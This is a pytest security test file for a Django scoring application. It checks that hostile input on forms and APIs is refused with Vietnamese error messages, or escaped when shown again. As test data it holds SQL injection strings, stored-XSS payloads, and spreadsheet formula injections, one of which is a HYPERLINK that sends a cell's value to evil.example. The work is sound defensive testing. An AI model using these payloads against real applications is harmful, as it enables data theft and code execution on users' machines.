"""Hostile input on every form and API field: numbers, text, Unicode, SQL metacharacters, stored XSS, formulas.

Each refused case asserts a Vietnamese message with status 400/422 (never a 500) and that nothing changed:
the score lines, the audit trail and the evidence files are counted before and after. Cases that are
legitimately stored (a note containing markup or a formula) instead assert that every place showing the
text again escapes or neutralises it: the HTML pages, the Excel exports, the open-data CSV and the PDF
report's HTML.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from django.contrib.messages import get_messages
from django.db import transaction
from django.test import Client, override_settings
from django.urls import reverse
from django.utils.html import escape
from rest_framework.test import APIClient

from evidence.models import EvidenceFile
from scoring.models import AuditEntry, ScoreLine
from tests.security.conftest import World, build_world

VIETNAMESE = re.compile(r"[ăâđêôơưàáạảãèéẹẻẽìíịỉĩòóọỏõùúụủũỳýỵỷỹ\u1ea0-\u1ef9]", re.IGNORECASE)
XSS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+cmd|' /C calc'!A0", "-1+1",
            "@SUM(1+1)*cmd|'/C calc'!A0")


def assert_vietnamese(message: Any) -> None:
    assert isinstance(message, str) and VIETNAMESE.search(message), f"not a Vietnamese message: {message!r}"


def state() -> tuple[Any, ...]:
    """Everything a refused write must leave as it was."""
    lines = tuple(ScoreLine.objects.order_by("pk").values_list(
        "pk", "version", "self_value", "self_score", "self_note", "explanation", "not_applicable_reason",
        "appraised_value", "appraised_score", "appraised_note"))
    return lines, AuditEntry.objects.count(), EvidenceFile.objects.count()


@pytest.fixture(scope="module")
def shared_world(django_db_setup: Any, django_db_blocker: Any, tmp_path_factory: Any) -> Iterator[World]:
    """One world per module, built inside an outer transaction that is rolled back at the end; each test runs
    in its own savepoint (the `db` fixture), so a test sees the world exactly as built."""
    with django_db_blocker.unblock(), override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("world-media")):
        outer = transaction.atomic()
        outer.__enter__()
        try:
            yield build_world("self")
        finally:
            transaction.set_rollback(True)
            outer.__exit__(None, None, None)


@pytest.fixture
def world(shared_world: World, db: Any) -> World:
    for assessment in shared_world.assessments.values():
        assessment.refresh_from_db()
    return shared_world


def _browser(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _api(user: Any) -> APIClient:
    client = APIClient()
    client.force_login(user)
    return client


def _line(world: World, code: str) -> ScoreLine:
    return ScoreLine.objects.get(assessment=world.assessments["own"], indicator__code=code)


def _save_json(world: World, code: str, **body: Any) -> Any:
    line = _line(world, code)
    body.setdefault("version", line.version)
    url = reverse("scoring:line_save", args=[line.assessment_id, line.pk])
    raw = body.pop("_raw", None)
    payload = raw if raw is not None else json.dumps(body)
    return _browser(world.users["unit_editor"]).post(url, payload, content_type="application/json",
                                                     HTTP_ACCEPT="application/json")


def _save_api(world: World, code: str, **body: Any) -> Any:
    line = _line(world, code)
    body.setdefault("version", line.version)
    url = reverse("api:line", args=[line.assessment_id, line.pk])
    return _api(world.users["unit_editor"]).put(url, body, format="json")


def _refused(response: Any, before: tuple[Any, ...]) -> None:
    assert response.status_code in (400, 422), (response.status_code, response.content[:500])
    assert_vietnamese(response.json()["message"])
    assert state() == before


# --- numbers -------------------------------------------------------------------------------------------------

# (id, leaf code, value). 1.2.3 is manual (0..0.5, step 0.25); 2.1.1 proportional; 2.1.2 per occurrence;
# 1.1.1 levels; 1.2.1 yes/no; 1.2.2 formula.
NUMBER_CASES = [
    ("points-nan-text", "1.2.3", {"points": "NaN"}),
    ("points-snan-text", "1.2.3", {"points": "sNaN"}),
    ("points-infinity-text", "1.2.3", {"points": "Infinity"}),
    ("points-minus-inf-text", "1.2.3", {"points": "-inf"}),
    ("points-1e309-text", "1.2.3", {"points": "1e309"}),
    ("points-1e309-json-number", "1.2.3", {"_raw_points": "1e309"}),
    ("points-nan-json-literal", "1.2.3", {"_raw_points": "NaN"}),
    ("points-beyond-max", "1.2.3", {"points": "0.75"}),
    ("points-huge", "1.2.3", {"points": "9" * 40}),
    ("points-negative", "1.2.3", {"points": "-0.25"}),
    ("points-too-many-decimals", "1.2.3", {"points": "0.125"}),
    ("points-two-separators", "1.2.3", {"points": "0,2.5"}),
    ("points-thousands-underscore", "1.2.3", {"points": "0_5"}),
    ("points-hex", "1.2.3", {"points": "0x1"}),
    ("points-fraction-glyph", "1.2.3", {"points": "½"}),
    ("points-bool", "1.2.3", {"points": True}),
    ("points-list", "1.2.3", {"points": ["0.5"]}),
    ("points-object", "1.2.3", {"points": {"$gt": 0}}),
    ("points-sql", "1.2.3", {"points": "0.5' OR 1=1 --"}),
    ("ratio-negative-numerator", "2.1.1", {"numerator": "-5", "denominator": "100"}),
    ("ratio-zero-denominator", "2.1.1", {"numerator": "5", "denominator": "0"}),
    ("ratio-infinite-denominator", "2.1.1", {"numerator": "5", "denominator": "Infinity"}),
    ("ratio-numerator-above-denominator", "2.1.1", {"numerator": "150", "denominator": "100"}),
    ("count-negative", "2.1.2", {"counts": {"late": "-1", "missing": "0"}}),
    ("count-fraction", "2.1.2", {"counts": {"late": "1.5", "missing": "0"}}),
    ("count-1e20", "2.1.2", {"counts": {"late": "1e20", "missing": "0"}}),
    ("formula-nan-count", "1.2.2", {"counts": {"a": "NaN", "b": "1", "c": "1"}}),
    ("option-sql", "1.1.1", {"option": "' OR 1=1 --"}),
    ("option-script", "1.1.1", {"option": XSS[0]}),
    ("yes-no-garbage", "1.2.1", {"value": "maybe"}),
]


def _value_body(value: dict[str, Any]) -> dict[str, Any]:
    if "_raw_points" in value:  # a JSON number literal Python's json module turns into inf / nan
        return {"_raw": '{"version": %s, "value": {"points": %s}}'}
    return {"value": value}


@pytest.mark.parametrize(("code", "value"), [c[1:] for c in NUMBER_CASES], ids=[c[0] for c in NUMBER_CASES])
def test_malformed_number_on_the_page_is_refused(world: World, code: str, value: dict[str, Any]) -> None:
    before = state()
    body = _value_body(value)
    if "_raw" in body:
        body["_raw"] = body["_raw"] % (_line(world, code).version, value["_raw_points"])
    response = _save_json(world, code, **body)
    _refused(response, before)


API_NUMBER_CASES = [c for c in NUMBER_CASES if "_raw_points" not in c[2]]


@pytest.mark.parametrize(("code", "value"), [c[1:] for c in API_NUMBER_CASES], ids=[c[0] for c in API_NUMBER_CASES])
def test_malformed_number_in_the_api_is_refused(world: World, code: str, value: dict[str, Any]) -> None:
    before = state()
    response = _save_api(world, code, value=value)
    _refused(response, before)


@pytest.mark.parametrize("typed", ["0,25", "0.25", " 0,25 ", "0.250"])
def test_decimal_comma_and_point_mean_the_same_number(world: World, typed: str) -> None:
    response = _save_json(world, "1.2.3", value={"points": typed})
    assert response.status_code == 200, response.content[:300]
    assert str(_line(world, "1.2.3").self_score) in {"0.25", "0.2500"}


# --- text: control characters, direction overrides, length -----------------------------------------------------

TEXT_CASES = [
    ("note-nul", "note", "Ghi chú\x00 ẩn"),
    ("note-escape", "note", "Ghi chú \x1b[31mđỏ\x1b[0m"),
    ("note-bell-backspace", "note", "Ghi\x07 chú\x08"),
    ("note-rtl-override", "note", "Tệp \u202egpj.exe"),
    ("note-overlong", "note", "Dài " * 30_000),
    ("explanation-nul", "explanation", "Giải trình\x00"),
    ("explanation-escape", "explanation", "\x1b]0;title\x07Giải trình"),
    ("explanation-rtl-isolate", "explanation", "Giải \u2067trình\u2069"),
    ("explanation-overlong", "explanation", "x" * 100_001),
    ("na-reason-nul", "not_applicable_reason", "Không\x00 phát sinh"),
    # a reason that looks empty is no reason: zero-width spaces, word joiner, byte-order mark, blank fillers
    ("na-reason-zero-width", "not_applicable_reason", "\u200b\u200b\u200b"),
    ("na-reason-invisible-mix", "not_applicable_reason", "\u2060\ufeff\u180e \u2800\u3164"),
]


def _text_body(field: str, text: str) -> dict[str, Any]:
    if field == "not_applicable_reason":  # 1.2.2 allows "not applicable"
        return {"not_applicable": True, "not_applicable_reason": text}
    return {field: text, "value": {"counts": {"a": "4", "b": "2", "c": "1"}}}


@pytest.mark.parametrize(("field", "text"), [c[1:] for c in TEXT_CASES], ids=[c[0] for c in TEXT_CASES])
def test_hostile_text_on_the_page_is_refused(world: World, field: str, text: str) -> None:
    before = state()
    response = _save_json(world, "1.2.2", **_text_body(field, text))
    _refused(response, before)


@pytest.mark.parametrize(("field", "text"), [c[1:] for c in TEXT_CASES], ids=[c[0] for c in TEXT_CASES])
def test_hostile_text_in_the_api_is_refused(world: World, field: str, text: str) -> None:
    before = state()
    response = _save_api(world, "1.2.2", **_text_body(field, text))
    _refused(response, before)


@pytest.mark.parametrize("text", ["Khó khăn\x00", "Khó\x1b[2J khăn", "x" * 100_001],
                         ids=["difficulties-nul", "difficulties-escape", "difficulties-overlong"])
def test_hostile_difficulties_text_is_refused(world: World, text: str) -> None:
    before = state(), world.assessments["own"].difficulties
    url = reverse("scoring:difficulties", args=[world.assessments["own"].pk])
    response = _browser(world.users["unit_editor"]).post(url, {"difficulties": text})
    if response.status_code == 302:  # the report page's form: the error travels as a message to the page
        errors = [str(m) for m in get_messages(response.wsgi_request) if m.level_tag == "error"]
        assert errors, "redirected without an error message"
        assert_vietnamese(errors[0])
    else:
        assert response.status_code in (400, 422), response.content[:300]
        assert_vietnamese(response.content.decode())
    world.assessments["own"].refresh_from_db()
    assert (state(), world.assessments["own"].difficulties) == before


# --- non-NFC Unicode --------------------------------------------------------------------------------------------

DECOMPOSED = unicodedata.normalize("NFD", "Kế hoạch cải cách hành chính tỉnh Tiền Giang")


@pytest.mark.parametrize("field", ["note", "explanation"])
@pytest.mark.parametrize("channel", ["page", "api"])
def test_decomposed_vietnamese_is_stored_as_nfc(world: World, field: str, channel: str) -> None:
    assert unicodedata.normalize("NFC", DECOMPOSED) != DECOMPOSED
    body = {field: DECOMPOSED, "value": {"counts": {"a": "4", "b": "2", "c": "1"}}}
    response = (_save_json if channel == "page" else _save_api)(world, "1.2.2", **body)
    assert response.status_code == 200, response.content[:300]
    line = _line(world, "1.2.2")
    stored = line.self_note if field == "note" else line.explanation
    assert stored == unicodedata.normalize("NFC", DECOMPOSED)


# --- SQL metacharacters in API filters and search ----------------------------------------------------------------

@dataclass(frozen=True)
class Query:
    url: str
    params: dict[str, str]
    refused: bool  # True: 400 with a message; False: 200 and matches nothing unexpected


SQL_CASES = [
    ("units-q-or", Query("api:units", {"q": "' OR 1=1 --"}, refused=False)),
    ("units-q-percent", Query("api:units", {"q": "%"}, refused=False)),
    ("units-q-underscore", Query("api:units", {"q": "_"}, refused=False)),
    ("units-q-backslash", Query("api:units", {"q": "\\"}, refused=False)),
    ("units-q-nul", Query("api:units", {"q": "Sở\x00"}, refused=True)),
    ("units-q-overlong", Query("api:units", {"q": "a" * 5000}, refused=True)),
    ("units-kind-sql", Query("api:units", {"kind": "department' OR '1'='1"}, refused=True)),
    ("units-active-sql", Query("api:units", {"active": "true OR 1=1"}, refused=True)),
    ("sets-year-sql", Query("api:indicator_sets", {"year": "2020 OR 1=1"}, refused=True)),
    ("sets-year-huge", Query("api:indicator_sets", {"year": "9" * 40}, refused=True)),
    ("cycles-year-nan", Query("api:cycles", {"year": "NaN"}, refused=True)),
    ("assessments-unit-sql", Query("api:assessments", {"unit": "so-y-te' --"}, refused=True)),
    ("assessments-cycle-sql", Query("api:assessments", {"year": "1; DROP TABLE scoring_unit"}, refused=True)),
]


@pytest.mark.parametrize("query", [c[1] for c in SQL_CASES], ids=[c[0] for c in SQL_CASES])
def test_sql_metacharacters_in_filters_are_data(world: World, query: Query) -> None:
    from scoring.models import Unit

    before = state(), Unit.objects.count()
    response = _api(world.users["administrator"]).get(reverse(query.url), query.params)
    if query.refused:
        assert response.status_code == 400, response.content[:300]
        assert_vietnamese(response.json()["message"])
    else:
        assert response.status_code == 200, response.content[:300]
        results = response.json()
        rows = results["results"] if isinstance(results, dict) else results
        literal = query.params["q"]
        for row in rows:  # a match must really contain the metacharacter, never "everything"
            assert literal.casefold() in json.dumps(row, ensure_ascii=False).casefold()
    assert (state(), Unit.objects.count()) == before


# --- stored XSS: every text shown again is escaped ----------------------------------------------------------------

def _store_note(world: World, payload: str) -> None:
    response = _save_json(world, "1.2.2", note=payload, value={"counts": {"a": "4", "b": "2", "c": "1"}})
    assert response.status_code == 200, response.content[:300]


def _store_explanation(world: World, payload: str) -> None:
    response = _save_json(world, "1.2.2", explanation=payload, value={"counts": {"a": "4", "b": "2", "c": "1"}})
    assert response.status_code == 200, response.content[:300]


def _store_difficulties(world: World, payload: str) -> None:
    from scoring.services import assessment_difficulties_save

    assessment_difficulties_save(assessment=world.assessments["own"], text=payload, actor=world.users["unit_editor"])


def _store_unit_name(world: World, payload: str) -> None:
    from scoring.models import Unit

    for unit in world.units.values():  # own for the unit's pages, other for the appraisers' queue
        Unit.objects.filter(pk=unit.pk).update(name=f"{unit.name} {payload}")


def _store_indicator_name(world: World, payload: str) -> None:
    from scoring.models import Indicator

    Indicator.objects.filter(indicator_set=world.indicator_set, code="1.1.1").update(name=f"Kế hoạch {payload}")


def _store_file_name(world: World, payload: str) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.evidence import samples

    url = reverse("evidence:upload", args=[world.assessments["own"].pk])
    upload = SimpleUploadedFile(f"{payload}.pdf", samples.pdf(), "application/pdf")
    response = _browser(world.users["unit_editor"]).post(url, {"files": [upload]}, HTTP_ACCEPT="application/json")
    assert response.status_code in (200, 201), response.content[:300]


def _own(name: str) -> Any:
    return lambda world: reverse(name, args=[world.assessments["own"].pk])


STORES = {"note": _store_note, "explanation": _store_explanation, "difficulties": _store_difficulties,
          "unit name": _store_unit_name, "indicator name": _store_indicator_name, "file name": _store_file_name}
# (what is stored, who looks, which page)
XSS_PAGES = [
    ("note", "unit_editor", _own("scoring:assessment")),
    ("note", "unit_editor", _own("scoring:report")),
    ("explanation", "unit_editor", _own("scoring:assessment")),
    ("explanation", "unit_editor", _own("scoring:report")),
    ("difficulties", "unit_editor", _own("scoring:report")),
    ("unit name", "unit_editor", _own("scoring:assessment")),
    ("unit name", "administrator", lambda world: reverse("administration:unit_list")),
    ("unit name", "lead", lambda world: reverse("appraisal:queue")),
    ("indicator name", "unit_editor", _own("scoring:assessment")),
    ("indicator name", "administrator",
     lambda world: reverse("administration:set_detail", args=[world.indicator_set.pk])),
    ("file name", "unit_editor", _own("evidence:library")),
]
XSS_CASES = [(store, who, page, payload) for store, who, page in XSS_PAGES for payload in XSS]
XSS_IDS = [f"{store}-{who}-{i}-{'script' if p == XSS[0] else 'img'}"
           for i, (store, who, _page, p) in enumerate(XSS_CASES)]


@pytest.mark.parametrize(("store", "who", "page", "payload"), XSS_CASES, ids=XSS_IDS)
def test_stored_markup_is_escaped_where_shown(world: World, store: str, who: str, page: Any, payload: str) -> None:
    STORES[store](world, payload)
    response = _browser(world.users[who]).get(page(world))
    assert response.status_code == 200
    html = response.content.decode()
    shown = escape(payload)
    if store == "file name":  # a name keeps no path: "<script>alert(1)</script>" is stored as "script>.pdf"
        shown = escape(EvidenceFile.objects.latest("pk").original_name)
        assert shown != EvidenceFile.objects.latest("pk").original_name
    assert shown in html, f"the {store} is not shown on the page at all"
    for dangerous in ("<script>alert(1)", "<img src=x", "onerror=alert(1)>"):
        assert dangerous not in html.replace(shown, "")


# --- administration texts: unit and indicator names ----------------------------------------------------------------

ADMIN_TEXTS = [
    ("nul", "Sở Y tế\x00"),
    ("escape", "Sở Y tế \x1b[31m"),
    ("rtl-override", "Sở Y tế \u202egpj.exe"),
    ("overlong", "Sở " * 2000),
    ("invisible", "\u200b\u3164\u2060"),  # a name that shows nothing
]


def _unit_page(world: World, text: str) -> Any:
    from scoring.administration.services.units import unit_version

    unit = world.units["own"]
    data = {"code": unit.code, "name": text, "short_name": unit.short_name, "kind": unit.kind_id,
            "ranking_group": unit.ranking_group_id or "", "parent": unit.parent_id or "",
            "version": unit_version(unit)}  # a fresh page's: the text itself is what is refused
    return _browser(world.users["administrator"]).post(reverse("administration:unit_edit", args=[unit.pk]), data)


def _unit_api(world: World, text: str) -> Any:
    url = reverse("api:unit", args=[world.units["own"].code])
    return _api(world.users["administrator"]).patch(url, {"name": text}, format="json")


def _indicator_api(world: World, text: str) -> Any:
    url = reverse("api:indicator", args=[world.extra["clone"].key, "1.1.1"])
    return _api(world.users["administrator"]).patch(url, {"name": text}, format="json")


ADMIN_CHANNELS = {"unit-page": _unit_page, "unit-api": _unit_api, "indicator-api": _indicator_api}


def _names() -> tuple[Any, ...]:
    from scoring.models import Indicator, Unit

    return (tuple(Unit.objects.order_by("pk").values_list("name", "short_name")),
            tuple(Indicator.objects.order_by("pk").values_list("name", "guidance")))


@pytest.mark.parametrize("channel", list(ADMIN_CHANNELS))
@pytest.mark.parametrize("text", [c[1] for c in ADMIN_TEXTS], ids=[c[0] for c in ADMIN_TEXTS])
def test_hostile_administration_text_is_refused(world: World, channel: str, text: str) -> None:
    before = state(), _names()
    response = ADMIN_CHANNELS[channel](world, text)
    assert response.status_code in (400, 422), (response.status_code, response.content[:300])
    if channel.endswith("page"):
        errors = [str(m) for m in get_messages(response.wsgi_request) if m.level_tag == "error"]
        assert errors, "no error message"
        assert_vietnamese(" ".join(errors))
    else:
        assert_vietnamese(response.json()["message"] + json.dumps(response.json()["fields"], ensure_ascii=False))
    assert (state(), _names()) == before


def test_an_explanation_that_looks_empty_is_stored_empty(world: World) -> None:
    """A leaf needing evidence is not "explained" by invisible characters: the pre-submit check still lists it."""
    response = _save_json(world, "1.2.2", explanation="\u200b\u2060", value={"counts": {"a": "4", "b": "2", "c": "1"}})
    assert response.status_code == 200, response.content[:300]
    assert _line(world, "1.2.2").explanation == ""


# --- the appraiser's input ----------------------------------------------------------------------------------------

APPRAISAL_CASES = [
    ("note-nul", {"note": "Đã kiểm tra\x00"}),
    ("note-escape", {"note": "Đã kiểm tra \x1b[2J"}),
    ("note-rtl-override", {"note": "Đã kiểm tra \u202eabc"}),
    ("note-overlong", {"note": "x" * 5001}),
    ("value-nan", {"value": {"numerator": "NaN", "denominator": "100"}}),
    ("value-1e309", {"value": {"numerator": "1e309", "denominator": "100"}}),
    ("value-negative", {"value": {"numerator": "-1", "denominator": "100"}}),
    ("value-not-an-object", {"value": "85/100"}),
]


@pytest.mark.parametrize("body", [c[1] for c in APPRAISAL_CASES], ids=[c[0] for c in APPRAISAL_CASES])
def test_hostile_appraisal_input_is_refused(world: World, body: dict[str, Any]) -> None:
    line = world.lines["other"]  # area 2 of the other unit: the appraiser's assignment
    line.refresh_from_db()
    before = state()
    payload = {"version": line.version, "value": line.self_value, **body}
    url = reverse("api:appraise_line", args=[line.assessment_id, line.pk])
    response = _api(world.users["appraiser"]).post(url, payload, format="json")
    _refused(response, before)
